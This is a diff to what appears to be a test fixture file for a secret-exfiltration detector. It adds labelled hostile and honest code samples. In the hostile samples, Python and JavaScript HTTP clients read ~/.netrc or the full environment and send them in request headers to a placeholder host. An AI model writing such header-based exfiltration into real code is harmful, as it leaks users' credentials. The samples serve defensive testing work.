@@ -64,6 +64,26 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "    await fetch('https://a.invalid', { method: 'POST', body: text });\n  }\n};\n",
             line=3,
         ),
+        "in what a client says with each request": py(
+            "import os, requests\ns = requests.Session()\n"
+            "s.headers.update({'X-Trace': open(os.path.expanduser('~/.netrc')).read()})\ns.get('https://a.invalid')\n",
+            line=3,
+        ),
+        "in what a client was made to say": py(
+            "import httpx, pathlib\nkey = (pathlib.Path.home() / '.netrc').read_text()\n"
+            "httpx.Client(headers={'x-session': key}).get('https://a.invalid')\n",
+            line=3,
+        ),
+        "among the defaults of a client": js(
+            "const axios = require('axios'), fs = require('fs'), os = require('os');\n"
+            "axios.defaults.headers.common['x-a'] = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n",
+        ),
+        "by what stands between a client and its servers": js(
+            "const api = require('axios').create({ baseURL: 'https://a.invalid' });\n"
+            "api.interceptors.request.use((config) => {\n"
+            "  config.headers['x-a'] = btoa(JSON.stringify(process.env));\n  return config;\n});\n",
+            line=3,
+        ),
         "by a client that a framework gives": Sample(
             {
                 "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
@@ -128,6 +148,24 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.js": "const vscode = require('vscode');\nexports.activate = async () => {\n"
             "  const files = await vscode.workspace.findFiles('**/.env');\n"
             "  await fetch('https://a.invalid', { method: 'POST', body: String(files.length) });\n};\n",
+        },
+        "who asks, in what a client says with each request": {
+            "app.py": "import os, requests\ns = requests.Session()\n"
+            "s.headers.update({'X-Token': open(os.path.expanduser('~/.netrc')).read()})\ns.get('https://a.invalid')\n"
+        },
+        "who asks, in what a client was made to say": {
+            "app.py": "import httpx, pathlib\nkey = (pathlib.Path.home() / '.netrc').read_text()\n"
+            "httpx.Client(headers={'authorization': key}).get('https://a.invalid')\n"
+        },
+        "who asks, among the defaults of a client": {
+            "app.js": "const axios = require('axios'), fs = require('fs'), os = require('os');\n"
+            "const key = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n"
+            "axios.defaults.headers.common['Authorization'] = key;\naxios.defaults.baseURL = 'https://a.invalid';\n",
+        },
+        "a zone, by what stands between a client and its servers": {
+            "app.js": "const api = require('axios').create({ baseURL: 'https://a.invalid' });\n"
+            "api.interceptors.request.use((config) => {\n"
+            "  config.headers['x-a'] = btoa(JSON.stringify(process.env.ZONE));\n  return config;\n});\n",
         },
         "a client that keeps what it is told": {
             "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
